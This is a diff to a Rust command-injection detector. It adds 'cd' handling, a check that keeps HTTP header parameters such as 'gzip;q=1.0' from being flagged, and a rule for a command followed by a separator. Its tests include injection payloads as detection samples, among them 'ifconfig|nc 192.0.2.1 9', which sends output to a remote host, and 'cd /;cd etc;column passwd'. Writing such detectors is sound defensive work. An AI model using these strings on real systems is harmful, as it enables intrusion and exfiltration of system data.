@@ -219,6 +219,7 @@ const ALL_COMMANDS: &[&str] = &[
     "yarn",
     "gem",
     "cargo",
+    "cd",
     "go",
     "php-cgi",
     "jjs",
@@ -984,6 +985,8 @@ fn command_uncached(name: &str) -> Option<(bool, bool)> {
         "cmd.exe",
     ];
     let unix_ambiguous = [
+        // A shell builtin, and a compact disc.
+        "cd",
         "go",
         "cargo",
         "write",
@@ -1262,6 +1265,20 @@ pub(crate) fn starts_with_command(lower: &str) -> bool {
     }
     // Cut at ASCII bytes only, so the slice stays a `str` (no re-validation).
     (1..=20).contains(&(end - component)) && command(&s[component..end]).is_some()
+}
+
+/// Whether `rest` (what follows a word) opens a parameter list, `;name=`:
+/// `gzip;q=1.0` in a header is a coding with a weight, not a command line.
+fn parameter_list(rest: &str) -> bool {
+    let Some(rest) = rest.trim_start_matches([' ', '\t']).strip_prefix(';') else {
+        return false;
+    };
+    let rest = rest.trim_start_matches([' ', '\t']);
+    let name = rest
+        .bytes()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
+        .count();
+    name > 0 && rest.as_bytes().get(name) == Some(&b'=')
 }
 
 /// The program a command word names: its last path component, without
@@ -1715,7 +1732,9 @@ fn brace_command(lower: &str) -> Option<usize> {
         // word (`c{a,oun}t`) is written for the shell, not as a list.
         let crafted =
             inner.split(',').any(str::is_empty) || !prefix.is_empty() || !suffix.is_empty();
+        // (`cd`, a builtin, is judged below: `{cd,dvd,/vinyl}` is a list.)
         if let Some((ambiguous, _)) = command(base)
+            && base != "cd"
             && (!ambiguous || shaped_arg || crafted)
         {
             return Some(open);
@@ -2600,11 +2619,13 @@ fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
                 }
                 let args = &args_buf[..n_args];
                 let next = pieces.get(idx + 1);
-                let shell_args = args.iter().any(|p| match p {
-                    Piece::Op(Op::Redirect) => true,
-                    Piece::Word { .. } => shell_shaped(word_text(p), base),
-                    _ => false,
-                });
+                // `cd` takes one argument: `{cd,dvd,/vinyl}` is a list.
+                let shell_args = (base != "cd" || args.len() == 1)
+                    && args.iter().any(|p| match p {
+                        Piece::Op(Op::Redirect) => true,
+                        Piece::Word { .. } => shell_shaped(word_text(p), base),
+                        _ => false,
+                    });
                 let span = *start..(*end + 24).min(lower.len());
                 if (word.starts_with("/bin/")
                     || word.starts_with("/usr/bin/")
@@ -2678,7 +2699,22 @@ fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
                         // (`cscli alerts list`, `ansible-vault decrypt x`).
                         let distinctive_call =
                             !ambiguous && !args.is_empty() && is_distinctive(base);
-                        if first_shaped || timing_probe || distinctive_call {
+                        // `whoami;...`, `ifconfig|...`: a command no prose
+                        // starts with, then a separator, starts a command
+                        // line (a trailing line break alone ends a text).
+                        let chained = !ambiguous
+                            && matches!(
+                                next,
+                                Some(Piece::Op(Op::Separator | Op::Pipe | Op::Background))
+                            )
+                            && (pieces.len() > idx + 2
+                                || !lower[*end..]
+                                    .trim_start_matches([' ', '\t'])
+                                    .starts_with('\n'))
+                            && !parameter_list(&lower[*end..]);
+                        // `cd` takes one argument: `CD / DVD player` is prose.
+                        let first_shaped = first_shaped && (base != "cd" || args.len() == 1);
+                        if first_shaped || timing_probe || distinctive_call || chained {
                             let rule = if windows {
                                 &rules::RCE_WINDOWS_COMMAND
                             } else {
@@ -3010,6 +3046,10 @@ fn is_distinctive(name: &str) -> bool {
 /// Arguments a shell command gets and prose does not.
 fn shell_shaped(arg: &str, command: &str) -> bool {
     if command == "alias" && arg.contains('=') {
+        return true;
+    }
+    // `cd /`, `cd ..`, `cd -`: to the root, up, back.
+    if command == "cd" && matches!(arg, "/" | ".." | "-") {
         return true;
     }
     let b = arg.as_bytes();
@@ -3615,6 +3655,30 @@ mod tests {
             "She said: \"set the table\"",
             "A/B testing (phase 2)",
             "id 12345",
+        ] {
+            assert_clean(benign);
+        }
+    }
+
+    #[test]
+    fn a_leading_command_then_a_separator_starts_a_command_line() {
+        assert_detects("whoami;", "rce.unix_command");
+        assert_detects("whoami;0'0'\"", "rce.unix_command");
+        assert_detects("ifconfig|nc 192.0.2.1 9", "rce.unix_command");
+        assert_detects("cd /;cd etc;column passwd", "rce.unix_command");
+        assert_detects("cd ..", "rce.unix_command");
+        assert_detects("cd /tmp && ./x", "rce.unix_command");
+        for benign in [
+            "gzip;q=1.0, identity; q=0.5, *;q=0",
+            "gzip; q=1.0",
+            // A trailing line break ends a text, and prose words stay prose.
+            "visudo\n",
+            "ping; pong",
+            "Cat; dog; bird",
+            "CD / DVD player",
+            "CD /DVD drive",
+            "I use cd / daily",
+            "cd etc",
         ] {
             assert_clean(benign);
         }
